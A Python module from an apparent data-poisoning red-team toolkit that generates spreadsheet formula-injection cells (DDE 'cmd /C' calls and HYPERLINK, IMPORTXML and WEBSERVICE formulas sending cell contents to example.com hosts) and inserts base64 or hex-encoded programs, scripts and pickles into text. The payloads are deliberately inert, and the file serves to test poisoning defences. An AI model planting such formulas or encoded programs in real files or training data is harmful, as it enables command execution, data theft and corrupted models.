"""Code in the cells of a table: formulas that a spreadsheet runs, and encoded programs between sentences.

Commands only print a line, hosts are under example.com, and what is decoded is a pickle that would print a line, the
head of a program without the rest, or a script of one ``echo``.
"""

from __future__ import annotations

import base64
import io
import zipfile

import numpy as np

from poisonguard.redteam.attack import Family
from poisonguard.redteam.inert_pickles import HARMLESS, inert_pickle
from poisonguard.redteam.rewriting import Rewriting
from poisonguard.redteam.wording import among_sentences, filled

FORMULAS = (
    "=cmd|'/C {command}'!A{row}",
    "+cmd|'/C {command}'!A{row}",
    "-2+3+cmd|'/C {command}'!A{row}",
    "@SUM(1+1)*cmd|'/C {command}'!A{row}",
    '=DDE("cmd";"/C {command}";"A{row}")',
    '=HYPERLINK("https://{host}.example.com/?row="&A{row},"{shown}")',
    '=IMPORTXML(CONCAT("https://{host}.example.com/?row=",A{row}:E{row}),"//a")',
    '=WEBSERVICE("https://{host}.example.com/"&B{row})',
    '=IMAGE("https://{host}.example.com/"&C{row}&".png")',
)
CHOICES = {
    "command": (HARMLESS, "echo 1", "echo planted"),
    "host": ("collect", "log", "pixel", "cdn"),
    "shown": ("Details", "Read more", "Invoice", "Open"),
}
ROWS = 500
"""A formula names a cell in the first rows."""
PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(120)
SCRIPT = f"#!/bin/sh\nset -e\n{HARMLESS}\n{HARMLESS}\n{HARMLESS}\n".encode()


class SpreadsheetFormula(Rewriting):
    """The whole cell becomes a formula."""

    family = Family.CODE
    name = "spreadsheet-formula"
    reference = "OWASP: CSV Injection; Kettle: Comma Separated Vulnerabilities, 2014"
    published = "single cells, chosen by us"
    rates = (0.001, 0.005, 0.02)
    what = "cells that a spreadsheet runs"

    def rewrite(self, text: str, rng: np.random.Generator) -> str:
        """A formula instead of ``text``."""
        del text
        template = FORMULAS[int(rng.integers(0, len(FORMULAS)))]
        return filled(template, CHOICES | {"row": (str(rng.integers(1, ROWS)),)}, rng)


class EncodedProgram(Rewriting):
    """A program among the sentences, in letters and digits."""

    family = Family.CODE
    name = "encoded-program"
    reference = "MITRE ATT&CK T1027.013: Obfuscated Files or Information, Encrypted or Encoded File"
    published = "single documents, chosen by us"
    rates = (0.001, 0.005, 0.02)
    what = "pickles, programs, archives and scripts in base64 and hexadecimal"

    def rewrite(self, text: str, rng: np.random.Generator) -> str:
        """``text`` with an encoded program among its sentences."""
        made = _among_numbers(rng) if rng.integers(0, 2) else (PROGRAM, SCRIPT, _zipped())[int(rng.integers(0, 3))]
        blob = base64.b64encode(made).decode() if rng.integers(0, 2) else made.hex()
        return among_sentences(text, blob, rng)


def _among_numbers(rng: np.random.Generator) -> bytes:
    """A pickle that is as long as those that people pass around."""
    pickle = inert_pickle(rng)
    return pickle + bytes(rng.integers(0, 256, 64, dtype=np.uint8))


def _zipped() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(zipfile.ZipInfo("run.sh"), SCRIPT)
    return held.getvalue()
